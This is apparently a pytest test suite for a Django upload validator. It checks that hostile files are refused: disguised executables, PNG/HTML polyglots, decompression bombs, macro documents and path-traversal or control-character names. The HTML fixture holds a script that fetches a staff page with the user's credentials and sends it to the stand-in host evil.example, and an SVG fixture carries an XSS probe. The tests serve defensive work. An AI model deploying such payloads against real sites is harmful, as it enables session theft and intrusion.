"""The bad-file corpus: what must never enter a shared folder, and the good files that must.

Every bad file is refused with a message its uploader can read (``Refused.message``) and a short
reason for the audit (``Refused.detail``). The files are built here, byte by byte where needed.
"""

import struct
import zlib

import pytest
from django.utils import translation

from okence.exchange import checks, services
from okence.exchange.checks import Refused
from okence.exchange.models import FileEvent, SharedFile
from okence.exchange.tests.conftest import (
    add,
    docx_bytes,
    image_bytes,
    odf_bytes,
    pdf_bytes,
    png_of_about,
    stored_files,
    xlsx_bytes,
    zip_bytes,
)

NOT_ACCEPTED = (
    "This type of file is not accepted. Please send PDF (recommended), JPEG, PNG or an office "
    "document."
)
NAME_CHARACTERS = "The file name contains characters that are not allowed."
MACROS = "Documents with macros are not accepted."


def mismatch(extension: str) -> str:
    return f"The content of the file does not match its name (.{extension})."


def damaged(kind: str) -> str:
    return f"The file could not be read as {kind}; it may be damaged."


HTML = (
    b"<!DOCTYPE html>\n<html><head><title>Vloga</title></head>"
    b"<body><script>fetch('/uradnik/', {credentials: 'include'})"
    b".then(r => r.text()).then(t => new Image().src = 'https://evil.example/?' + t)"
    b"</script></body></html>\n"
)
SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.domain)</script><rect width='10' height='10'/></svg>\n"
)
# A Windows executable's start: the DOS header (MZ), its stub pointer, then the PE signature.
EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8"
    + bytes(43)
    + b"\x80\x00\x00\x00"
    + bytes(64)
    + b"PE\x00\x00\x4c\x01\x03\x00"
    + bytes(240)
)
PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_header(width: int = 16, height: int = 16) -> bytes:
    return PNG_SIGNATURE + png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))


@pytest.fixture(autouse=True)
def _english(_default_language):
    """The messages as written in the code (the Slovenian ones are their translations)."""
    with translation.override("en"):
        yield


def verify(tmp_path, data: bytes, name: str) -> str:
    """What the upload does with a received file: clean its name, check the content."""
    clean = checks.clean_name(name)
    path = tmp_path / "received"
    path.write_bytes(data)
    return checks.verify(str(path), clean)


def refusal(tmp_path, data: bytes, name: str) -> Refused:
    with pytest.raises(Refused) as refused:
        verify(tmp_path, data, name)
    return refused.value


# --- accepted ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("make", "name", "content_type"),
    [
        (pdf_bytes, "vloga.pdf", "application/pdf"),
        (lambda: pdf_bytes(pages=3), "Priloga 2 – izpis.PDF", "application/pdf"),
        (lambda: image_bytes("JPEG"), "osebna.jpg", "image/jpeg"),
        (lambda: image_bytes("JPEG"), "osebna.jpeg", "image/jpeg"),
        (lambda: image_bytes("PNG"), "posnetek.png", "image/png"),
        (
            docx_bytes,
            "pooblastilo.docx",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        (
            xlsx_bytes,
            "izračun.xlsx",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        ),
        (odf_bytes, "prošnja.odt", "application/vnd.oasis.opendocument.text"),
        (
            lambda: odf_bytes("application/vnd.oasis.opendocument.spreadsheet"),
            "tabela.ods",
            "application/vnd.oasis.opendocument.spreadsheet",
        ),
    ],
)
def test_good_files_are_accepted_with_the_type_they_are_served_as(
    tmp_path, make, name, content_type
):
    assert verify(tmp_path, make(), name) == content_type


# --- refused by type or content ----------------------------------------------------------------


def test_an_executable_named_pdf_is_refused(tmp_path):
    refused = refusal(tmp_path, EXE, "vloga.pdf")
    assert str(refused.message) == mismatch("pdf")
    assert refused.detail.startswith("content is application/")
    assert "pdf" not in refused.detail


def test_html_with_a_script_is_refused_as_pdf_and_as_html(tmp_path):
    as_pdf = refusal(tmp_path, HTML, "vloga.pdf")
    assert str(as_pdf.message) == mismatch("pdf")
    assert as_pdf.detail == "content is text/html"

    for name in ("vloga.html", "vloga.htm", "vloga.HTML"):
        as_html = refusal(tmp_path, HTML, name)
        assert str(as_html.message) == NOT_ACCEPTED
        assert as_html.detail == "type not allowed"


def test_svg_with_a_script_is_refused_as_svg_and_as_png(tmp_path):
    as_svg = refusal(tmp_path, SVG, "podpis.svg")
    assert str(as_svg.message) == NOT_ACCEPTED

    as_png = refusal(tmp_path, SVG, "podpis.png")
    assert str(as_png.message) == mismatch("png")
    assert as_png.detail == "content is image/svg+xml"


def test_a_png_signature_followed_by_html_is_refused(tmp_path):
    # Only the signature: libmagic does not even call it PNG.
    bare = refusal(tmp_path, PNG_SIGNATURE + HTML, "slika.png")
    assert str(bare.message) == mismatch("png")

    # With a real IHDR chunk libmagic says image/png; Pillow must then fail to load it.
    polyglot = png_header() + HTML
    refused = refusal(tmp_path, polyglot, "slika.png")
    assert str(refused.message) == damaged("PNG")
    assert refused.detail == "PNG does not parse"


def test_a_png_with_html_in_a_text_chunk_and_no_image_data_is_refused(tmp_path):
    """Header, a tEXt chunk carrying HTML, IEND: no pixels at all. Pillow's verify() used to
    fail here with an IndexError that escaped the check (a 500 instead of a refusal)."""
    polyglot = png_header() + png_chunk(b"tEXt", b"Comment\x00" + HTML) + png_chunk(b"IEND", b"")
    refused = refusal(tmp_path, polyglot, "slika.png")
    assert str(refused.message) == damaged("PNG")


def test_a_decompression_bomb_is_refused(tmp_path):
    """30000 × 30000 pixels declared in a file of a few hundred bytes: Pillow refuses to open
    it (DecompressionBombError), which must become a refusal, not a crash."""
    bomb = (
        png_header(30_000, 30_000)
        + png_chunk(b"IDAT", zlib.compress(bytes(1000)))
        + png_chunk(b"IEND", b"")
    )
    refused = refusal(tmp_path, bomb, "slika.png")
    assert str(refused.message) == damaged("PNG")


def test_a_pdf_header_on_a_zip_or_html_body_is_refused(tmp_path):
    for body in (docx_bytes(), HTML):
        refused = refusal(tmp_path, b"%PDF-1.7\n" + body, "vloga.pdf")
        assert str(refused.message) == damaged("PDF")
        assert refused.detail == "PDF does not parse"


def test_a_pdf_that_nests_too_deep_for_the_parser_is_refused(tmp_path):
    """pypdf recurses into nested arrays: a RecursionError must become a refusal too."""
    deep = (
        b"%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n"
        + b"[" * 5000
        + b"]" * 5000
        + b"\nendobj\ntrailer\n<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n"
    )
    refused = refusal(tmp_path, deep, "vloga.pdf")
    assert str(refused.message) == damaged("PDF")


@pytest.mark.parametrize("keep", [0.5, 0.9])
def test_a_truncated_pdf_is_refused(tmp_path, keep):
    whole = pdf_bytes(pages=2)
    refused = refusal(tmp_path, whole[: int(len(whole) * keep)], "vloga.pdf")
    assert str(refused.message) == damaged("PDF")


def test_a_truncated_jpeg_is_refused(tmp_path):
    whole = image_bytes("JPEG", (200, 200), noise=True)
    refused = refusal(tmp_path, whole[: len(whole) // 2], "osebna.jpg")
    assert str(refused.message) == damaged("JPEG")


def test_an_image_of_another_kind_than_its_name_is_refused(tmp_path):
    refused = refusal(tmp_path, image_bytes("PNG"), "osebna.jpg")
    assert str(refused.message) == mismatch("jpg")


def test_a_docx_with_macros_is_refused(tmp_path):
    with_macros = docx_bytes(extra=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(512))])
    refused = refusal(tmp_path, with_macros, "pooblastilo.docx")
    assert str(refused.message) == MACROS
    assert refused.detail == "macros"


def test_office_files_that_are_not_what_they_say_are_refused(tmp_path):
    # A plain ZIP named .docx, and an ODF text named .ods.
    plain_zip = zip_bytes([("readme.txt", "not a document")])
    assert str(refusal(tmp_path, plain_zip, "pooblastilo.docx").message) == damaged("DOCX")
    assert str(refusal(tmp_path, odf_bytes(), "tabela.ods").message) == mismatch("ods")


@pytest.mark.parametrize("damage", ["encrypted", "unknown method", "corrupt data"])
def test_office_zips_the_reader_cannot_open_are_refused(tmp_path, damage):
    """zipfile raises RuntimeError, NotImplementedError or zlib.error for these: each must
    become a refusal, not an error page."""
    data = bytearray(docx_bytes())
    if damage == "encrypted":  # general-purpose flag bit 0 in every local and central header
        for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            position = 0
            while (position := data.find(signature, position)) != -1:
                data[position + offset] |= 1
                position += 4
    elif damage == "unknown method":  # 98 (PPMd) is a method zipfile cannot read
        for signature, offset in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
            position = 0
            while (position := data.find(signature, position)) != -1:
                struct.pack_into("<H", data, position + offset, 98)
                position += 4
    else:  # flip bytes inside the deflated document part
        start = data.find(b"word/document.xml") + len("word/document.xml") + 2
        for index in range(start, start + 12):
            data[index] ^= 0x55
    refused = refusal(tmp_path, bytes(data), "pooblastilo.docx")
    assert str(refused.message) == damaged("DOCX")


# --- names -------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["vloga.pdf.exe", "slika.jpg.html", "vloga.pdf.js", "a.pdf.scr"])
def test_double_extensions_count_by_the_last_one(tmp_path, name):
    refused = refusal(tmp_path, pdf_bytes(), name)
    assert str(refused.message) == NOT_ACCEPTED


@pytest.mark.parametrize(
    ("name", "clean"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("/etc/passwd.pdf", "passwd.pdf"),
        ("..\\..\\Windows\\vloga.pdf", "vloga.pdf"),
        ("C:\\Users\\Rajko\\Desktop\\vloga.pdf", "vloga.pdf"),
        ("  vloga   za\u00a0potni  list.pdf ", "vloga za potni list.pdf"),
        ("vloga.pdf...", "vloga.pdf"),
        ("a" * 300 + ".pdf", "a" * 146 + ".pdf"),
    ],
)
def test_names_lose_their_folders_and_excess(name, clean):
    assert checks.clean_name(name) == clean


@pytest.mark.parametrize(
    "name", ["a\x00.pdf", "vloga.pdf\x00.exe", "vloga\r\n.pdf", "\x1b[31m.pdf"]
)
def test_control_characters_in_a_name_are_refused(name):
    with pytest.raises(Refused) as refused:
        checks.clean_name(name)
    assert str(refused.value.message) == NAME_CHARACTERS


@pytest.mark.parametrize("name", ["", "..", "../", "pdf", "   "])
def test_a_name_without_an_extension_is_refused(name):
    with pytest.raises(Refused) as refused:
        checks.clean_name(name)
    assert refused.value.detail == "no name"


def test_a_path_traversal_name_is_stored_under_a_random_name(folder, exchange_storage):
    file = add(folder, pdf_bytes(), "../../etc/passwd.pdf")
    assert file.name == "passwd.pdf"
    prefix, random_part = file.stored_name.split("/")
    assert prefix == folder.appointment.public_id.hex
    assert len(random_part) == 32 and int(random_part, 16) >= 0
    assert "passwd" not in file.stored_name and ".." not in file.stored_name
    assert stored_files(exchange_storage) == [file.stored_name]


def test_a_null_byte_in_the_name_is_refused_and_audited(folder, exchange_storage):
    with pytest.raises(Refused) as refused:
        add(folder, pdf_bytes(), "a\x00.pdf")
    assert str(refused.value.message) == NAME_CHARACTERS
    event = FileEvent.objects.get(action=FileEvent.Action.REFUSED)
    assert event.detail == "control character in name"
    # Recorded without the NUL, which PostgreSQL cannot store (the audit used to fail there).
    assert event.file_name == "a\ufffd.pdf"
    assert not SharedFile.objects.exists()
    assert stored_files(exchange_storage) == []


# --- size --------------------------------------------------------------------------------------


def test_an_oversized_file_is_refused_before_and_after_it_arrives(
    folder, settings, exchange_storage
):
    settings.EXCHANGE_MAX_FILE_BYTES = 2**20
    # The declared size alone is enough to refuse (the upload does this before reading).
    with pytest.raises(Refused) as declared:
        services.check_room_for(folder, 2**20 + 1)
    assert str(declared.value.message) == "The file is larger than 1 MB."
    assert declared.value.detail == "file too large"
    services.check_room_for(folder, 2**20)  # exactly the limit fits

    # A real file over the limit, through add_file: refused, audited, nothing stored.
    big = png_of_about(2**20 + 100_000)
    assert len(big) > 2**20
    with pytest.raises(Refused) as received:
        add(folder, big, "posnetek.png")
    assert str(received.value.message) == "The file is larger than 1 MB."
    assert FileEvent.objects.get(action=FileEvent.Action.REFUSED).detail == "file too large"
    assert stored_files(exchange_storage) == []


def test_types_can_be_narrowed_by_settings(tmp_path, settings):
    settings.EXCHANGE_ALLOWED_TYPES = ["pdf"]
    assert checks.allowed_extensions() == ["pdf"]
    assert str(refusal(tmp_path, image_bytes("PNG"), "posnetek.png").message) == NOT_ACCEPTED
    # An unknown type in the setting does not open the door to it.
    settings.EXCHANGE_ALLOWED_TYPES = ["pdf", "html"]
    assert checks.allowed_extensions() == ["pdf"]
    assert str(refusal(tmp_path, HTML, "vloga.html").message) == NOT_ACCEPTED


def test_a_name_with_an_invisible_direction_change_is_refused():
    from okence.exchange.checks import Refused, clean_name

    with pytest.raises(Refused):
        clean_name("racun\u202efdp.docx")


def test_an_image_with_more_pixels_than_allowed_is_refused_before_decoding(tmp_path, settings):
    """A few hundred bytes can declare 64 megapixels, which Pillow would decode into ~190 MB."""
    settings.EXCHANGE_MAX_IMAGE_PIXELS = 50_000_000
    large = (
        png_header(8_000, 8_000)
        + png_chunk(b"IDAT", zlib.compress(bytes(1000)))
        + png_chunk(b"IEND", b"")
    )
    refused = refusal(tmp_path, large, "slika.png")
    assert refused.detail == "too many pixels"
